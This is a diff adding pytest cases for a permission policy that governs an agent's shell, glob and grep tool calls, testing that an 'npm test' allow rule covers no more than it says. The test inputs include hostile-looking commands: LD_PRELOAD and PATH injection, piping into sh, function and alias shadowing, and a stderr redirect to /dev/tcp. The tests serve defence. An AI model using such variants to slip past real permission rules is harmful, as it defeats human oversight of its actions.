@@ -327,3 +327,38 @@ def test_a_search_pattern_may_name_a_place() -> None:
     assert verdict(guarded, Call("Glob", {"pattern": "/etc/*"})) == "ask"
     assert verdict(guarded, Call("Glob", {"pattern": "../*"})) == "ask"
     assert verdict(guarded, Call("Grep", {"pattern": "x", "glob": "!secrets/**"})) != "ask"
+
+
+# Narrow reading of allow rules
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("npm test", "allow"),
+        ("PATH=/x; npm test", "ask"),
+        ("export PATH=/x; npm test", "ask"),
+        ("LD_PRELOAD=./x; npm test", "ask"),
+        ("a=1; npm test", "allow"),
+        ("NODE_ENV=test; npm test", "allow"),
+        ('"npm test"', "ask"),
+        ("npm test | sh", "ask"),
+        ("npm test; npm test", "allow"),
+        ("/bin/npm test", "ask"),
+        ("npm() { make; }; npm test", "ask"),
+        ("alias npm=make; npm test", "ask"),
+        ("npm test <<< x", "ask"),
+        ("npm test 2> /dev/tcp/h/1", "ask"),
+        ("npm test $?", "allow"),
+        ("npm test *.ts", "allow"),
+        ("npm test 'a b'", "allow"),
+    ],
+)
+def test_an_allow_rule_covers_no_more_than_it_says(command: str, expected: str) -> None:
+    assert verdict(policy(rule("Bash(npm test *)")), Call("Bash", {"command": command})) == expected
+
+
+def test_a_script_is_denied_by_its_name() -> None:
+    guarded = policy(rule("Bash"), rule("Bash(./deploy.sh *)", "deny"))
+    for command in ("./deploy.sh", "bash deploy.sh", "sh ./deploy.sh x", "/p/deploy.sh"):
+        assert verdict(guarded, Call("Bash", {"command": command})) == "deny", command
